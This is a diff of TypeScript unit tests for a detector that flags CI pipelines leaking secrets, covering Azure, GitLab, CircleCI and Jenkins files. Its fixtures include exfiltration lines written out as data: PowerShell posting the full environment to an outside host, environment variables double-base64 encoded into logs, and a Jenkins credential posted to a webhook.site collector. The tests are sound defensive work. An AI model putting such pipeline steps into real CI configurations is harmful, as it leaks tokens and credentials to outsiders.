@@ -862,6 +862,42 @@ describe('build-code-behavior: pipelines of other CI systems (GitLab CI, Jenkins
     ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
   });
 
+  it("reads PowerShell's env: drive and .NET's GetEnvironmentVariables() as the whole environment, and Invoke-RestMethod/-WebRequest with -Method Post or -Body as a send", () => {
+    expect(buildFinding(added('azure-pipelines.yml', 'steps:\n- powershell: Invoke-RestMethod -Uri https://stats.buildmetrics.io/v1 -Method Post -Body (Get-ChildItem env: | Out-String)'))).toMatchObject({ severity: 'critical', line: 2 });
+    expect(buildFinding(added('.gitlab-ci.yml', 't:\n  script:\n    - pwsh -c "iwr https://stats.buildmetrics.io/v1 -Body ([Environment]::GetEnvironmentVariables() | ConvertTo-Json)"'))).toMatchObject({ severity: 'critical', line: 3 });
+    expect(kinds('Get-ChildItem env: | Sort-Object Name', 'shell')).toEqual(['environment']);
+    expect(kinds('Get-ChildItem env:PATH', 'shell')).toEqual([]);
+  });
+
+  it('is quiet on the env: drive listed for debugging and a deploy posted with its token in a header', () => {
+    const text = 'steps:\n- pwsh: Get-ChildItem env: | Sort-Object Name\n- pwsh: Invoke-RestMethod -Uri https://api.acme.dev/deploys -Method Post -Headers @{ Authorization = "Bearer $(DEPLOY_TOKEN)" } -Body (@{ sha = \'$(Build.SourceVersion)\' } | ConvertTo-Json)';
+    expect(buildFinding(added('azure-pipelines.yml', text))).toBeNull();
+  });
+
+  it('reports the whole environment or a credential printed to the log through encoders only, critical (the tj-actions payload in another CI system)', () => {
+    const gitlab = buildFinding(added('.gitlab-ci.yml', 'test:\n  script:\n    - npm ci\n    - env | base64 -w0 | base64 -w0\n    - npm test'));
+    expect(gitlab).toMatchObject({ severity: 'critical', line: 4, title: '.gitlab-ci.yml prints secrets to the log encoded when CI runs it' });
+    expect(buildFinding(added('azure-pipelines.yml', 'steps:\n- script: npm ci\n- script: printenv | base64 | base64\n  displayName: Diagnostics'))).toMatchObject({ severity: 'critical', line: 3 });
+    // Azure's $(NAME) macro is the variable's text, not a command substitution.
+    expect(buildFinding(added('azure-pipelines.yml', 'steps:\n- script: echo $(NPM_TOKEN) | base64 | rev'))).toMatchObject({ severity: 'critical', line: 2 });
+    expect(buildFinding(added('.circleci/config.yml', 'jobs:\n  build:\n    steps:\n      - run: printenv | xxd -p'))).toMatchObject({ severity: 'critical', line: 4 });
+    // Filtered on the way (grep for the secrets' names, strip the line breaks): the last stage still encodes.
+    expect(buildFinding(added('.gitlab-ci.yml', 'test:\n  script:\n    - env | grep -iE "token|secret|key" | tr -d "\\n" | base64 -w0'))).toMatchObject({ severity: 'critical', line: 3 });
+    // A Jenkins binding judged by its credential's id: `T` holds the npm token.
+    const jenkins = "node {\n  withCredentials([string(credentialsId: 'npm-token', variable: 'T')]) {\n    sh 'echo \"$T\" | xxd -p'\n  }\n}";
+    expect(buildFinding(added('Jenkinsfile', jenkins))).toMatchObject({ severity: 'critical', line: 3 });
+  });
+
+  it('is quiet on a secret decoded into a file or a key ring, encoded into a variable or a file, and on the environment sorted or filtered', () => {
+    for (const [path, text] of [
+      ['.gitlab-ci.yml', 'sign:\n  script:\n    - echo "$KEYSTORE_B64" | base64 -d > release.jks\n    - echo "$SIGNING_KEY" | base64 --decode | gpg --batch --import'],
+      ['.gitlab-ci.yml', 'debug:\n  script:\n    - env | sort\n    - printenv | grep CI_ | sort\n    - env | base64 -w0 | wc -c'],
+      ['.gitlab-ci.yml', 'upload:\n  script:\n    - AUTH=$(echo -n "$NEXUS_USER:$NEXUS_PASSWORD" | base64 -w0)\n    - echo "$CI_COMMIT_SHA" | base64\n    - cat coverage/lcov.info | base64 -w0'],
+      ['.gitlab-ci.yml', 'kaniko:\n  script:\n    - echo "{\\"auths\\":{\\"$CI_REGISTRY\\":{\\"auth\\":\\"$(printf "%s:%s" "$CI_REGISTRY_USER" "$CI_REGISTRY_PASSWORD" | base64 | tr -d \'\\n\')\\"}}}" > /kaniko/.docker/config.json'],
+      ['azure-pipelines.yml', 'steps:\n- script: echo $(DOCKER_CONFIG_B64) | base64 -d > ~/.docker/config.json\n- script: echo $(Build.BuildNumber) | base64'],
+    ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
+  });
+
   it("reads Jenkins' httpRequest as a send, and a credential named for one service sent as data to another's host as high (GhostAction in a pipeline)", () => {
     // The HTTP Request plugin posting a bound credential to a collector: critical, as curl would be.
     const posted = "pipeline {\n  agent any\n  stages {\n    stage('Stats') {\n      steps {\n        withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n          httpRequest url: 'https://webhook.site/0b1c2d3e', httpMode: 'POST', requestBody: \"t=${NPM_TOKEN}\"\n        }\n      }\n    }\n  }\n}";
